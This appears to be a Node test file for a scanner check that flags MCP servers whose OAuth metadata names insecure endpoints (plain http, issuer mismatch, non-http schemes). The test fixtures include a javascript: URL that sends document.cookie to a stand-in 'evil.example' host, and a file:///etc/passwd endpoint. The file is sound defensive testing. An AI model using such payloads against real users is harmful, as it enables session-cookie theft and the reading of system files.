import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { check } from '../../../src/checks/mcp/mcp.auth.insecure-authorization-endpoint.js';
import { authorizationServer, oauthEndpoint, openEndpoint, probeItem, unreachedEndpoint } from '../../helpers/probe-evidence.js';
import { checkTable, renderMessage, runCheck } from '../../helpers/run-check.js';

const URL = 'https://mcp.example.com/mcp';
const KEY = 'authorizationServers/https://auth.example.com';
const withServer = (document: Parameters<typeof authorizationServer>[0], issuer?: string) => probeItem(oauthEndpoint({ authorizationServers: [authorizationServer(document, issuer)] }));

checkTable(check, {
  valid: [
    { name: 'all https', items: [probeItem(oauthEndpoint())], passes: ['endpointsSecure'] },
    { name: 'a loopback authorization server over http (local development)', items: [withServer({}, 'http://127.0.0.1:9000')], passes: ['endpointsSecure'] },
    { name: 'no registration endpoint is fine', items: [withServer({ registration_endpoint: undefined })], passes: ['endpointsSecure'] },
    { name: 'a public endpoint without OAuth', items: [probeItem(openEndpoint())], empty: ['noOAuth'] },
    { name: 'unreached', items: [probeItem(unreachedEndpoint())], unseen: ['unreached'] },
    { name: 'metadata not readable', items: [probeItem(oauthEndpoint({ authorizationServers: [{ issuer: 'https://auth.example.com', url: 'https://auth.example.com/.well-known/oauth-authorization-server', problem: 'not-json' }] }))], unseen: ['metadataUnavailable'] },
  ],
  invalid: [
    {
      name: 'a plain http token endpoint',
      items: [withServer({ token_endpoint: 'http://auth.example.com/token?tenant=acme' })],
      errors: [{
        messageId: 'plaintextEndpoint', severity: 'high', key: `${KEY}/token_endpoint`,
        message: `The authorization server https://auth.example.com of ${URL}, named by .cursor/mcp.json:3 "crm" publishes its token_endpoint over plain http (http://auth.example.com/token): authorization codes, tokens or client credentials would cross the network unencrypted.`,
      }],
    },
    {
      name: 'a javascript: authorization endpoint is critical, and its payload is never shown',
      items: [withServer({ authorization_endpoint: 'javascript:fetch("https://evil.example/?t="+document.cookie)' })],
      errors: [{
        messageId: 'nonHttpEndpoint', severity: 'critical', key: `${KEY}/authorization_endpoint`,
        message: `The authorization server https://auth.example.com of ${URL}, named by .cursor/mcp.json:3 "crm" publishes a authorization_endpoint with the scheme "javascript" (javascript:…), not https: a client that opens it runs or reads whatever it points at.`,
      }],
    },
    { name: 'a file: registration endpoint', items: [withServer({ registration_endpoint: 'file:///etc/passwd' })], errors: [{ messageId: 'nonHttpEndpoint', severity: 'critical', key: `${KEY}/registration_endpoint` }] },
    {
      name: 'an http issuer off loopback: its metadata and every endpoint named by it travel in clear',
      items: [withServer({ authorization_endpoint: 'https://auth.example.com/authorize', token_endpoint: 'https://auth.example.com/token', registration_endpoint: undefined }, 'http://auth.example.com')],
      errors: [{ messageId: 'plaintextEndpoint', severity: 'high', key: 'authorizationServers/http://auth.example.com/issuer' }],
    },
    {
      name: 'an issuer mismatch (medium)',
      items: [withServer({ issuer: 'https://other.example.net' })],
      errors: [{
        messageId: 'issuerMismatch', severity: 'medium', key: `${KEY}/issuer-match`,
        message: `The metadata at https://auth.example.com/.well-known/oauth-authorization-server for the authorization server https://auth.example.com of ${URL}, named by .cursor/mcp.json:3 "crm" declares the issuer https://other.example.net: RFC 8414 requires them to be equal, and a client must not use metadata whose issuer differs.`,
      }],
    },
    { name: 'no issuer in the metadata is a mismatch', items: [withServer({ issuer: undefined })], errors: [{ messageId: 'issuerMismatch', severity: 'medium', key: `${KEY}/issuer-match`, data: { declared: 'nothing (no issuer field)' } }] },
  ],
});

describe('mcp.auth.insecure-authorization-endpoint: messages', () => {
  it('a pass names the fields it read', () => {
    const [result] = runCheck(check, [probeItem(oauthEndpoint())]);
    assert.equal(renderMessage(check, result!), `The authorization server https://auth.example.com of ${URL} declares its own issuer and serves issuer, authorization_endpoint, token_endpoint, registration_endpoint over https (or loopback).`);
  });
});
